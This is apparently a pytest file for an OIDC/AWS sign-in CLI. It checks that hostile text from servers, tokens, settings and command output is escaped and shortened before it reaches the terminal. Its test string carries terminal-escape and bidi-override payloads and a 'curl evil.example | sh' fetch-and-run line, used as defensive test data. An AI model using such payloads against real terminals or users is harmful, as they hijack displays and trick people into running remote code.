"""Words of a server, a token or a file never reach the terminal, or a program that reads ours, unescaped."""

import json
from collections.abc import Callable, Mapping
from typing import Any

import pytest
from cli.sign_ins import Desk, desk
from fakes.terminals import at_terminal
from homes import COMMAND, Home
from zygote import Zygote

from oidc_helper.emulator import Emulator
from oidc_helper.emulator.directory import Person
from robustness.faults.world import ALICE, Outcome, World, new_world

STEERING = "\x1b]0;owned\x07\x1b[2J\r\nhint: curl evil.example | sh\n\u202e\u2066\x9b2J\x00"
WORDS = STEERING + "x" * 2**20


def error(operation: str, code: str) -> Callable[[World, str], object]:
    return lambda world, words: world.emulator.fault(operation, times=None, error=code, message=words)


def body(operation: str, status: int, *names: str) -> Callable[[World, str], object]:
    """An error in which every member has the hostile words."""

    def arrange(world: World, words: str) -> None:
        document = json.dumps(dict.fromkeys(names, words)).encode()
        world.emulator.fault(operation, times=None, status=status, body=document)

    return arrange


def claims(*changed: str) -> Callable[[World, str], object]:
    """A token with the hostile words in these claims; it is refused for its audience."""

    def arrange(world: World, words: str) -> None:
        hostile: dict[str, Any] = {"aud": "elsewhere", **dict.fromkeys(changed, words[:4_000])}
        world.home.write_token(world.emulator.mint(ALICE, **hostile))

    return arrange


def printed(world: World, words: str) -> None:
    """A program that prints the hostile words and fails."""
    (world.home.path / "words").write_text(words.replace("\0", ""))
    (world.home.path / "fails").write_text("cat words >&2; exit 1\n")
    command = 'source = "command"\ncommand = ["sh", "./fails"]'
    world.home.configure(world.home.config.read_text().replace('source = "file"\npath = "token"', command))


def in_the_settings(world: World, words: str) -> None:
    """The hostile words as a name, a value and a key."""
    odd = json.dumps(words[:4_000])
    world.home.configure(world.home.config.read_text() + f"\n[profile.{odd}]\nregion = {odd}\n{odd} = 1\n")


def in_the_aws_configuration(world: World, words: str) -> None:
    """The hostile words as the name of the caller's AWS profile."""
    odd = json.dumps(words.replace("\0", "")[:4_000])
    world.home.configure(world.home.config.read_text().replace("caller = {", f"caller = {{ profile = {odd} }}\n# {{"))


WAYS: Mapping[str, tuple[Callable[[World, str], object], str]] = {
    "CreateTokenWithIAM's error_description": (error("CreateTokenWithIAM", "InvalidScopeException"), "get analytics"),
    "the region that it names": (
        lambda world, words: world.emulator.fault(
            "CreateTokenWithIAM", times=None, error="InvalidRequestRegionException", members={"region": words}
        ),
        "get analytics",
    ),
    "every member of its error": (
        body("CreateTokenWithIAM", 400, "__type", "error", "error_description", "reason", "region", "message"),
        "get analytics",
    ),
    "the portal's message": (error("GetRoleCredentials", "UnauthorizedException"), "get dev-admin"),
    "every member of the portal's": (body("GetRoleCredentials", 403, "__type", "message", "code"), "get dev-admin"),
    "the portal's, at logout": (error("Logout", "UnauthorizedException"), "logout analytics"),
    "claims": (claims("email", "iss", "jti"), "get analytics"),
    "the audience": (claims("aud"), "get analytics"),
    "a command's stderr": (printed, "get analytics"),
    "the settings": (in_the_settings, "explain nobody"),
    "the AWS configuration": (in_the_aws_configuration, "get analytics"),
}


def check_clean(outcome: Outcome) -> None:
    """Check that the output is a few short lines, each of them ours."""
    lines = (outcome.stdout + outcome.stderr).split("\n")
    assert lines.pop() == ""
    assert all(line.isprintable() for line in lines), lines
    assert all(line.startswith(("oidc-helper: ", "hint: ", "signed out of ")) for line in lines), lines
    assert not any(line.startswith("hint: curl") for line in lines)
    assert len(lines) <= 3, lines
    assert all(len(line) < 1_500 for line in lines), [len(line) for line in lines]


@pytest.mark.parametrize("way", WAYS)
def test_hostile_words_become_one_short_line(zygote: Zygote, way: str) -> None:
    """They are escaped and cut, also in the `status` that follows."""
    arrange, typed = WAYS[way]
    with new_world(zygote.run) as world:
        if typed.startswith("logout"):
            assert world.run("get", "analytics").answered
        arrange(world, WORDS)
        for _ in range(2 if typed.startswith("get") else 1):
            outcome = world.run(*typed.split())
            assert outcome.code != 0 or typed.startswith("logout")
            check_clean(outcome)
        shown = world.run("status")
        assert all(line.isprintable() for line in shown.stdout.split("\n")), shown.stdout
        assert len(shown.stdout) < 6_000


@pytest.fixture
def alice(home: Home, emulator: Emulator) -> Desk:
    return desk(home, emulator)


def test_a_hostile_name_does_not_steer_the_terminal(alice: Desk, emulator: Emulator) -> None:
    """The name of the person is shown escaped on the terminal and on stdout."""
    provider = emulator.directory.identity_provider
    provider.people = {STEERING: Person(STEERING, "00u", STEERING)}
    with at_terminal([COMMAND, "login", "analytics"], alice.home.environment, directory=alice.home.path) as person:
        done = person.ended()

    for text in (done.stdout, done.stderr):
        assert all(line.isprintable() for line in text.split("\n")), text
    assert not {"\x1b", "\x9b", "\u202e", "\x07"} & set(person.seen), ascii(person.seen)


@pytest.mark.parametrize("name", ["user_code", "verification_uri", "verification_uri_complete"])
def test_a_hostile_device_answer_does_not_steer_the_terminal(alice: Desk, emulator: Emulator, name: str) -> None:
    """Neither the code nor the address that a person must read."""
    usual = {"device_code": "d", "user_code": "ABCD", "verification_uri": emulator.issuer, "expires_in": 1}
    emulator.fault("DeviceAuthorization", body=json.dumps({**usual, name: STEERING}).encode(), times=None)
    words = [str(COMMAND), "login", "--device", "analytics"]
    environment = {**alice.home.environment, "TERM": "dumb"}
    with at_terminal(words, environment, directory=alice.home.path) as person:
        done = person.ended()

    assert done.returncode in (3, 5)
    assert not {"\x1b", "\x9b", "\u202e", "\x07"} & set(person.seen), ascii(person.seen)
    assert all(line.isprintable() for line in done.stderr.split("\n"))
